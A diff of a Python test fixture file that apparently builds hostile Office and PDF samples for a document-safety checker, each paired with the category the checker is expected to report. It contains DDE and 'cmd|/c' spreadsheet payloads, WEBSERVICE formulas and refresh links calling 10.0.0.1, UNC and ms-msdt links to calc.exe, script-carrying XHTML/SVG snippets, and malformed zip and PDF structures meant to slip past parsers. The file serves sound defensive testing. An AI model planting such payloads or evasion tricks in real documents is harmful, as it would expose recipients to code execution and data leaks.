@@ -7,11 +7,18 @@ from collections.abc import Callable
 import pikepdf
 from pikepdf import Array, Dictionary, Name, String
 
-from tests.files import samples
+from tests.files import hostile, samples
 from tests.files.hostile import MZ, SCRIPT, W, action, cell, field, linked, pdf_with, related, typed, word
 
 _MARK = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
 _PARTS = "application/vnd.openxmlformats-officedocument"
+
+
+PAGE = (
+    b"<< /Type /Catalog /Pages 2 0 R >>",
+    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
+)
 
 
 def _run(text: str, element: str = "t") -> str:
@@ -40,6 +47,28 @@ def _part(name: str, body: str) -> bytes:
     return samples.xlsx({f"xl/{name}": body})
 
 
+def _named_behind(zipped: bytes, comment: bytes) -> bytes:
+    """The same archive with a comment, which no program shows."""
+    return zipped[:-2] + len(comment).to_bytes(2, "little") + comment
+
+
+def _in_header(at: int, value: bytes) -> bytes:
+    """A DOCX whose second entry begins with another header than the directory says."""
+    whole = bytearray(samples.docx())
+    start = whole.index(b"PK\x03\x04", 4) + at
+    whole[start : start + len(value)] = value
+    return bytes(whole)
+
+
+def _between() -> bytes:
+    """A DOCX with bytes of a page before its directory, which begins that much later."""
+    whole, odd = samples.docx(), b"<html><script>alert(1)</script></html>"
+    at = whole.index(b"PK\x01\x02")
+    moved = (at + len(odd)).to_bytes(4, "little")
+    end = whole.rindex(b"PK\x05\x06")
+    return whole[:at] + odd + whole[at : end + 16] + moved + whole[end + 20 :]
+
+
 _SHARE = "\\\\10.0.0.1\\s\\calc.exe"
 _CHOICE = "<mc:AlternateContent><mc:Choice>{}</mc:Choice><mc:Fallback>{}</mc:Fallback></mc:AlternateContent>"
 _RELATED = '<Relationships><Relationship Id="r1" Type="http://x/{}" Target="{}"/></Relationships>'
@@ -58,6 +87,16 @@ WORDS: dict[str, tuple[bytes, str]] = {
     "DDE in a field marked twice": (
         word('<w:r><w:fldChar x:fldCharType="end" xmlns:x="u" w:fldCharType="begin"/></w:r>' + _code("DDE a")), "dde",
     ),
+    "DDE behind a separator that is struck out": (_coded(f"<w:del>{_MARK('separate')}</w:del>", _code("DDE a")), "dde"),
+    "DDE behind a separator that is put in": (_coded(f"<w:ins>{_MARK('separate')}</w:ins>", _code("DDE a")), "dde"),
+    "DDE behind an end that is struck out": (_coded(_code("PAGE"), f"<w:del>{_MARK('end')}</w:del>", _code(" x")), "dde"),
+    "DDE outside of fields": (word(_code("PAGE ") + field("PAGE") + _code("DDEAUTO a")), "dde"),
+    "a program behind its end": (samples.docx() + MZ, "mixed"),
+    "a page in its comment": (_named_behind(samples.docx(), b"<html><script>alert(1)</script>"), "mixed"),
+    "a page between its entries": (_between(), "mixed"),
+    "an entry that calls itself locked": (_in_header(6, b"\x01"), "structure"),
+    "an entry of another size": (_in_header(22, b"\xff\x00"), "structure"),
+    "an entry packed otherwise": (_in_header(8, b"\x00"), "structure"),
     "a field's link to a program on a share": (word(field(' HYPERLINK "\\\\\\\\10.0.0.1\\\\s\\\\calc.exe" ')), "link"),
     "a field's link to a program here": (word(field(' HYPERLINK "file:///c:/windows/system32/calc.exe"')), "link"),
     "a field's link behind its switches": (word(field(' HYPERLINK \\h \\o "Bấm" "ms-msdt:/id a"')), "link"),
@@ -118,6 +157,8 @@ WORDS: dict[str, tuple[bytes, str]] = {
 }  # fmt: skip
 _TABLE = "<table><tableColumns><tableColumn><{0}>{1}</{0}></tableColumn></tableColumns></table>"
 SHEETS: dict[str, tuple[bytes, str]] = {
+    "a formula with somebody's own element": (cell('WEBSERVICE<x:n xmlns:x="u">A1 B</x:n>("http://10.0.0.1/")'), "broken"),
+    "a formula with an alternative": (cell(f'WEB{_CHOICE.format("", "")}SERVICE("http://10.0.0.1/")'), "broken"),
     "the network between two columns": (cell("T[a'#]&amp;_xlfn.WEBSERVICE(\"http://10.0.0.1/\"&amp;A1)&amp;T[b'#]"), "external"),
     "DDE between two columns": (cell("T[a'#]&amp;cmd|/c!A1&amp;T[b'#]"), "dde"),
     "DDE behind a column with brackets": (cell("T[[#This Row],[a']]]&amp;cmd|/c!A1"), "dde"),
@@ -211,11 +252,39 @@ def _unlisted(between: bytes, kind: bytes) -> bytes:
     return whole[:at] + b"99 0 obj\n<< /S %b/%b >>\nendobj\n" % (between, kind) + whole[at:]
 
 
+def _table_in_a_stream(index: bytes) -> bytes:
+    """A paper whose table is a stream for the numbers of `index`."""
+    body, rows = b"%PDF-1.7\n", bytes(4)
+    for number, one in enumerate(PAGE, start=1):
+        rows += b"\x01" + len(body).to_bytes(2) + b"\x00"
+        body += b"%d 0 obj\n%b\nendobj\n" % (number, one)
+    rows += b"\x01" + len(body).to_bytes(2) + b"\x00"
+    table = b"4 0 obj\n<< /Type /XRef /Root 1 0 R /Size 5 /W [1 2 1] /Index %b /Length %d >>\nstream\n%b\nendstream\nendobj\n"
+    return body + table % (index, len(rows), rows) + b"startxref\n%d\n%%%%EOF\n" % len(body)
+
+
 def _address(text: str | bytes) -> bytes:
     return pdf_with(linked(action("URI", URI=String(text))))
 
 
+_XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
+#: What a browser runs when such a file is opened by itself.
+LIVE_XML = {
+    "a picture": f'<img {_XHTML} src="x" onerror="alert(1)"/>',
+    "a page's body": f'<r><body {_XHTML} onload="alert(1)"/></r>',
+    "a way elsewhere": f'<r><meta {_XHTML} http-equiv="refresh" content="0;url=http://10.0.0.1/"/></r>',
+    "a link": '<r><x:a xmlns:x="http://www.w3.org/1999/xhtml" href="javascript:alert(1)">x</x:a></r>',
+    "a drawing": '<r xmlns:s="http://www.w3.org/2000/svg"><s:image href="x" onerror="alert(1)"/></r>',
+    "an equation": '<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"/>',
+}
 PDFS: dict[str, tuple[bytes, str]] = {
+    **{f"data that a browser runs: {name}": (pdf_with(hostile.attaching(one.encode(), "hoa-don.xml")), "embedded") for name, one in LIVE_XML.items()},
+    "an object listed twice": (hostile.tabled(*PAGE, b"<< /A 1 >>", twice=3), "structure"),
+    "an object listed twice, in a stream": (_table_in_a_stream(b"[0 4 3 1]"), "structure"),
+    "a table that is elsewhere": (hostile.tabled(*PAGE).replace(b"startxref\n", b"startxref\n9"), "structure"),
+    "a table with an object elsewhere": (hostile.tabled(*PAGE).replace(b"0000000058", b"0000000061"), "structure"),
+    "a table of other lines": (hostile.tabled(*PAGE).replace(b" n \n", b" n\n"), "structure"),
+    "a key said twice": (hostile.tabled(b"<< /Type /Catalog /Pages 2 0 R /Names << >> /Names 3 0 R >>", *PAGE[1:]), "structure"),
     "another file by its thread": (pdf_with(linked(action("Thread", F=_elsewhere("\\\\10.0.0.1\\a.pdf"), D=0))), "action"),
     "an action that nobody knows": (pdf_with(linked(action("Baz", D=0))), "action"),
     "an action of an older link": (pdf_with(_annotated(Subtype=Name.Link, PA=action("Baz"))), "action"),
